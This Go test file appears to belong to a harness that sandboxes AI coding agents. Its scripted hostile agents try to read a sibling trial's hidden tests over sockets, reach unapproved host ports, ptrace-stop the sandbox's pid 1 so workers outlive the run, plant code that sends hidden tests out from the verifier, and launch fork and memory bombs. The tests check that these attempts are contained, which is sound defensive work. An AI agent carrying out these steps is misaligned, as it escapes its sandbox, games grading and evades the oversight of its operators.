package redteam

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/swetouch/swetouch/internal/testsupport"
	"github.com/swetouch/swetouch/result"
)

// trialTask copies the example task as a task of another name (its
// records renamed with it) into tasks, and returns its folder.
func trialTask(t *testing.T, f fixture, tasks, name string) string {
	t.Helper()
	dir := filepath.Join(tasks, name)
	if out, err := exec.Command("cp", "-r", f.task, dir).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v %s", err, out)
	}
	for _, file := range []string{"task.toml", "records.jsonl"} {
		p := filepath.Join(dir, file)
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(p, []byte(strings.ReplaceAll(string(b), "py-discount", name)), 0o644)
	}
	return dir
}

// plan writes a scripted agent's plan of shell steps for task name.
func plan(t *testing.T, dir, name string, steps ...string) {
	t.Helper()
	var p struct {
		Task  string              `json:"task"`
		Steps []map[string]string `json:"steps"`
	}
	p.Task = name
	for _, s := range steps {
		p.Steps = append(p.Steps, map[string]string{"run": s})
	}
	b, _ := json.Marshal(p)
	if err := os.WriteFile(filepath.Join(dir, name+".json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// window reads "NAME START END" (seconds since the epoch) from a log.
func window(log, name string) (float64, float64, bool) {
	sc := bufio.NewScanner(strings.NewReader(log))
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) == 3 && f[0] == name {
			a, err1 := strconv.ParseFloat(f[1], 64)
			b, err2 := strconv.ParseFloat(f[2], 64)
			return a, b, err1 == nil && err2 == nil
		}
	}
	return 0, 0, false
}

// TestTrialsApart: two trials run at once through eval. Trial B's code
// listens on a loopback TCP port and on an abstract unix socket (whose
// name carries the port, as a leak to a sibling would), serving B's
// hidden tests; trial A's agent looks for them in /proc/net/unix and
// connects to both while B listens. With a network namespace per trial,
// A finds neither. (Without one, A read B's tests over both: seen by
// running this test with the sandbox's --unshare-net removed.)
func TestTrialsApart(t *testing.T) {
	testsupport.Slow(t)
	f := newFixture(t)
	tasks, plans := filepath.Join(filepath.Dir(f.out), "trials"), filepath.Join(filepath.Dir(f.out), "plans")
	os.MkdirAll(tasks, 0o755)
	os.MkdirAll(plans, 0o755)
	trialTask(t, f, tasks, "py-a")
	trialTask(t, f, tasks, "py-b")
	tag := fmt.Sprintf("swetouch-rt-%d-", os.Getpid())
	// B serves for 8 s; A looks for 8 s: both print the window they
	// were at it, so the test knows they overlapped
	plan(t, plans, "py-b", `python3 - <<'EOF'
import socket, time
start = time.time()
secret = b"SECRET-OF-B test_out_of_range\n"
tcp = socket.socket(); tcp.bind(("127.0.0.1", 0)); tcp.listen(8)
port = tcp.getsockname()[1]
ab = socket.socket(socket.AF_UNIX); ab.bind("\0`+tag+`%d" % port); ab.listen(8)
for s in (tcp, ab): s.settimeout(0.05)
while time.time() - start < 8:
    for s in (tcp, ab):
        try:
            c, _ = s.accept(); c.sendall(secret); c.close()
        except OSError:
            pass
print("B", start, time.time())
EOF`)
	plan(t, plans, "py-a", `python3 - <<'EOF'
import socket, time
start, got = time.time(), []
while time.time() - start < 8 and not got:
    for line in open("/proc/net/unix"):
        name = line.split()[-1]
        if name.startswith("@`+tag+`"):
            port = int(name.rsplit("-", 1)[1])
            for fam, addr in ((socket.AF_UNIX, "\0" + name[1:]), (socket.AF_INET, ("127.0.0.1", port))):
                try:
                    s = socket.socket(fam); s.connect(addr); got.append(s.recv(100).decode().strip())
                except OSError as e:
                    print("A could not connect:", e)
    time.sleep(0.05)
print("A", start, time.time())
print("A got:", got)
EOF`)
	cmd := exec.Command(filepath.Join(bin, "swetouch"), "eval", "--tasks", tasks, "--agent", "naive", "--conditions", "vanilla",
		"--plans", plans, "--out", f.out, "--concurrency", "2")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("eval: %v\n%s", err, out)
	}
	logs := map[string]string{}
	for _, name := range []string{"py-a", "py-b"} {
		trial := filepath.Join(f.out, "naive", "vanilla", name, "run-0")
		b, err := os.ReadFile(filepath.Join(trial, "agent.log"))
		if err != nil {
			t.Fatal(err)
		}
		logs[name] = string(b)
		var res result.Run
		rb, _ := os.ReadFile(filepath.Join(trial, result.File))
		if err := json.Unmarshal(rb, &res); err != nil || res.Sandbox != "bwrap" || res.Network != "none" {
			t.Errorf("%s: sandbox %q network %q (%v), want bwrap and none", name, res.Sandbox, res.Network, err)
		}
	}
	aStart, aEnd, okA := window(logs["py-a"], "A")
	bStart, bEnd, okB := window(logs["py-b"], "B")
	if !okA || !okB {
		t.Fatalf("the trials did not report their windows:\nA: %s\nB: %s", logs["py-a"], logs["py-b"])
	}
	if aStart >= bEnd || bStart >= aEnd {
		t.Fatalf("the trials did not overlap (A %.2f-%.2f, B %.2f-%.2f): the test proves nothing", aStart, aEnd, bStart, bEnd)
	}
	if strings.Contains(logs["py-a"], "SECRET-OF-B") || !strings.Contains(logs["py-a"], "A got: []") {
		t.Errorf("trial A reached trial B:\n%s", logs["py-a"])
	}
}

// TestModelRelayedOnly: an agent reaches its model at the address it was
// given (--model-url), and through it resolves the task; another port of
// the host's loopback, where an answer waits too, it cannot reach.
func TestModelRelayedOnly(t *testing.T) {
	f := newFixture(t)
	serve := func(body string) string {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, body) })}
		go srv.Serve(ln)
		t.Cleanup(func() { srv.Close() })
		return "http://" + ln.Addr().String()
	}
	modelURL := serve(fix)
	other := serve("HOST-SECRET")
	agent := filepath.Join(t.TempDir(), "agent.py")
	os.WriteFile(agent, []byte(`import os, sys, urllib.request
try:
    print("other:", urllib.request.urlopen(sys.argv[2], timeout=5).read().decode())
except Exception as e:
    print("other: unreachable", e)
code = urllib.request.urlopen(sys.argv[1], timeout=30).read().decode()
exec(code)
`), 0o644)
	cmd := exec.Command(filepath.Join(bin, "swetouch"), "run", "--verbose", "--task", f.task, "--condition", "vanilla", "--out", f.out, "--model-url", modelURL,
		"--", "python3", agent, modelURL, other)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("swetouch run: %v\n%s", err, out)
	}
	var res result.Run
	b, _ := os.ReadFile(filepath.Join(f.out, result.File))
	json.Unmarshal(b, &res)
	if resolved(res) != "true" || res.Network != "relayed" {
		t.Errorf("resolved %s, network %q; want true through the relayed model\n%s", resolved(res), res.Network, out)
	}
	if strings.Contains(string(out), "HOST-SECRET") || !strings.Contains(string(out), "other: unreachable") {
		t.Errorf("the agent reached a host port that is not its model's:\n%s", out)
	}
}

// stopPid1 is a python3 program that ptrace-stops the sandbox's pid 1
// from a child, which then becomes the worker command in argv[1:], and
// returns once pid 1 has stopped.
const stopPid1 = `import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH
        os.waitpid(1, 0x40000000)  # __WALL
        os.write(w, b"stopped")
    os.close(w)
    os.execvp(sys.argv[1], sys.argv[1:])
os.close(w)
print("pid 1:", os.read(r, 10).decode() or "not stopped", flush=True)
`

// TestAgentTimeout: an agent that fixes the task, stops the sandbox's
// pid 1 with a child left working, and then hangs, is killed whole at
// --agent-timeout; the verifier runs on what the workspace holds (true
// here), result.json says it timed out, and nothing of it survives.
func TestAgentTimeout(t *testing.T) {
	f := newFixture(t)
	worker, hang := fmt.Sprintf("sleep 1000.%d", os.Getpid()), fmt.Sprintf("sleep 1001.%d", os.Getpid())
	prog := filepath.Join(t.TempDir(), "stop.py")
	os.WriteFile(prog, []byte(stopPid1), 0o644)
	script := `python3 -c '` + fix + `'
python3 "$1" ` + worker + `
exec ` + hang
	start := time.Now()
	cmd := exec.Command(filepath.Join(bin, "swetouch"), "run", "--verbose", "--task", f.task, "--condition", "vanilla", "--out", f.out, "--agent-timeout", "3s", "--", "bash", "-c", script, "bash", prog)
	out, err := cmd.CombinedOutput()
	took := time.Since(start)
	if err != nil {
		t.Fatalf("swetouch run: %v\n%s", err, out)
	}
	var res result.Run
	b, _ := os.ReadFile(filepath.Join(f.out, result.File))
	json.Unmarshal(b, &res)
	log, _ := os.ReadFile(filepath.Join(f.out, "agent.log"))
	// the seccomp filter refuses the ptrace ("not stopped"); the host's
	// kill of a stopped pid 1 is the barrier behind it (sandbox's
	// TestStoppedPid1 takes the filter away to reach it)
	if !strings.Contains(string(log), "pid 1: stopped") && !strings.Contains(string(log), "pid 1: not stopped") {
		t.Fatalf("the attack did not run:\n%s", log)
	}
	if !res.AgentTimedOut || res.AgentTimeout != 3 || resolved(res) != "true" {
		t.Errorf("timed out %v (limit %v s), resolved %s; want a timeout at 3 s and the workspace's verdict, true\n%s", res.AgentTimedOut, res.AgentTimeout, resolved(res), out)
	}
	if took > 30*time.Second {
		t.Errorf("the run took %s with a 3 s agent timeout", took)
	}
	for _, p := range []string{worker, hang} {
		if w := processWith(p); w != "" {
			t.Errorf("%q outlived the run: %s", p, w)
		}
	}
}

// TestStoppedPid1KeepsNoWorker: the agent stops the sandbox's pid 1,
// leaves a worker rewriting the code, and exits. Pid 1 cannot pass the
// exit on; before, bwrap waited for ever while the worker went on. The
// host ends the sandbox within seconds (not at the hour's timeout), the
// verdict is the tests' (false: the worker broke the code), and the
// worker is gone.
func TestStoppedPid1KeepsNoWorker(t *testing.T) {
	f := newFixture(t)
	tag := fmt.Sprintf("worker-%d", os.Getpid())
	prog := filepath.Join(t.TempDir(), "stop.py")
	os.WriteFile(prog, []byte(stopPid1), 0o644)
	script := `python3 "$1" bash -c 'while :; do echo "` + tag + `(" >> pricing.py; sleep 0.05; done' ` + tag + `
exit 0`
	start := time.Now()
	cmd := exec.Command(filepath.Join(bin, "swetouch"), "run", "--verbose", "--task", f.task, "--condition", "vanilla", "--out", f.out, "--", "bash", "-c", script, "bash", prog)
	out, err := cmd.CombinedOutput()
	took := time.Since(start)
	if err != nil {
		t.Fatalf("swetouch run: %v\n%s", err, out)
	}
	var res result.Run
	b, _ := os.ReadFile(filepath.Join(f.out, result.File))
	json.Unmarshal(b, &res)
	log, _ := os.ReadFile(filepath.Join(f.out, "agent.log"))
	// the seccomp filter refuses the ptrace ("not stopped"); the host's
	// kill of a stopped pid 1 is the barrier behind it (sandbox's
	// TestStoppedPid1 takes the filter away to reach it)
	if !strings.Contains(string(log), "pid 1: stopped") && !strings.Contains(string(log), "pid 1: not stopped") {
		t.Fatalf("the attack did not run:\n%s", log)
	}
	if resolved(res) != "false" || res.AgentTimedOut {
		t.Errorf("resolved %s, timed out %v; want false, not timed out\n%s", resolved(res), res.AgentTimedOut, out)
	}
	if took > 60*time.Second {
		t.Errorf("the run took %s after its agent exited", took)
	}
	if w := processWith(tag); w != "" {
		t.Errorf("the worker outlived the run: %s", w)
	}
}

// TestLimitsHold: an agent forks 1,000 sleepers and allocates 2 GiB, and
// leaves the same in the code the verifier imports. Each sandbox's
// control group stops both (here --pids-limit 256, --memory-limit 1G);
// the run ends with a verdict, false, not null; result.json says what
// the limits refused; no sleeper outlives the run. (Without the control
// groups all 1,000 forks and the 2 GiB passed: seen with Limits unset.)
func TestLimitsHold(t *testing.T) {
	testsupport.Slow(t)
	f := newFixture(t)
	tag := fmt.Sprintf("1005.%d", os.Getpid())
	bomb := `import os
got = 0
for i in range(1000):
    try:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "` + tag + `"])
        got += 1
    except OSError:
        break
print("forked", got, flush=True)
try:
    b = b"x" * (2 << 30)
    print("allocated", len(b), flush=True)
except MemoryError:
    print("no memory", flush=True)
`
	prog := filepath.Join(t.TempDir(), "bomb.py")
	os.WriteFile(prog, []byte(bomb), 0o644)
	script := `python3 "$1"; echo "agent's bomb exit $?"
cat "$1" >> pricing.py`
	cmd := exec.Command(filepath.Join(bin, "swetouch"), "run", "--verbose", "--task", f.task, "--condition", "vanilla", "--out", f.out,
		"--pids-limit", "256", "--memory-limit", "1G", "--", "bash", "-c", script, "bash", prog)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("swetouch run: %v\n%s", err, out)
	}
	var res result.Run
	b, _ := os.ReadFile(filepath.Join(f.out, result.File))
	json.Unmarshal(b, &res)
	var forked int
	if i := strings.Index(string(out), "forked "); i >= 0 {
		fmt.Sscanf(string(out[i:]), "forked %d", &forked)
	}
	if forked == 0 || forked >= 256 || strings.Contains(string(out), "allocated 2") {
		t.Errorf("forked %d (limit 256), or the 2 GiB passed:\n%s", forked, out)
	}
	if resolved(res) != "false" {
		t.Errorf("resolved %s, want false\n%s", resolved(res), out)
	}
	if l := res.Limits; l == nil || l.Pids != 256 || l.Memory != 1<<30 || l.PidsRefused == 0 || l.OOMKills == 0 {
		t.Errorf("result.json limits %+v, want 256 pids and 1 GiB with refused forks and an OOM kill", l)
	}
	if p := processWith("sleep " + tag); p != "" {
		t.Errorf("a sleeper outlived the run: %s", p)
	}
}

// TestVerifierHasNoNetwork: the agent leaves code in the module the
// verifier imports that sends the hidden tests to a port on the host's
// loopback (another trial's agent, a server of its own). The verifier's
// sandbox reaches nothing: the listener hears no one, the verdict stands.
// (Without the verifier's own namespace the hidden tests arrived: seen
// with --unshare-net removed.)
func TestVerifierHasNoNetwork(t *testing.T) {
	f := newFixture(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	heard := make(chan string, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			b := make([]byte, 4096)
			n, _ := c.Read(b)
			heard <- string(b[:n])
			c.Close()
		}
	}()
	leak := fmt.Sprintf(`
import os, socket
try:
    socket.create_connection(("127.0.0.1", %d), timeout=5).sendall(open(os.path.join(os.environ.get("TESTS_DIR", "."), "test_hidden.py"), "rb").read())
except OSError:
    pass
`, ln.Addr().(*net.TCPAddr).Port)
	script := "python3 -c '" + fix + "'\ncat >> pricing.py <<'EOF'\n" + leak + "EOF\n"
	res, out := f.run(t, "vanilla", "bash", "-c", script)
	// a last connection of the test's own: the listener accepts in
	// order, so any the verifier made is heard before it
	c, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("END"))
	c.Close()
	for got := range heard {
		if got == "END" {
			break
		}
		t.Errorf("the verifier reached the host: %.80q", got)
	}
	ln.Close()
	if resolved(res) != "true" {
		t.Errorf("resolved %s, want true (the fix stands)\n%s", resolved(res), out)
	}
}

// TestForkBomb: the classic bash fork bomb, left running as the agent
// exits. Its sandbox's pids limit holds it to 256 processes; the run
// ends with a verdict, false; none of it survives.
func TestForkBomb(t *testing.T) {
	testsupport.Slow(t)
	f := newFixture(t)
	tag := fmt.Sprintf("bomb%d", os.Getpid())
	script := tag + `() { ` + tag + ` | ` + tag + ` & }; ` + tag + ` 2>/dev/null
# two seconds of it, then count, all without a fork
end=$((SECONDS + 2)); while ((SECONDS < end)); do :; done
n=0; for p in /proc/[0-9]*; do n=$((n + 1)); done; echo "processes: $n"`
	cmd := exec.Command(filepath.Join(bin, "swetouch"), "run", "--verbose", "--task", f.task, "--condition", "vanilla", "--out", f.out,
		"--pids-limit", "256", "--", "bash", "-c", script)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("swetouch run: %v\n%s", err, out)
	}
	var res result.Run
	b, _ := os.ReadFile(filepath.Join(f.out, result.File))
	json.Unmarshal(b, &res)
	var n int
	if i := strings.Index(string(out), "processes: "); i >= 0 {
		fmt.Sscanf(string(out[i:]), "processes: %d", &n)
	}
	if n == 0 || n > 256 || res.Limits == nil || res.Limits.PidsRefused == 0 {
		t.Errorf("%d processes at once, limits %+v; want at most 256 and refused forks\n%s", n, res.Limits, out)
	}
	if resolved(res) != "false" {
		t.Errorf("resolved %s, want false", resolved(res))
	}
	if p := processWith(tag); p != "" {
		t.Errorf("the bomb outlived the run: %s", p)
	}
}
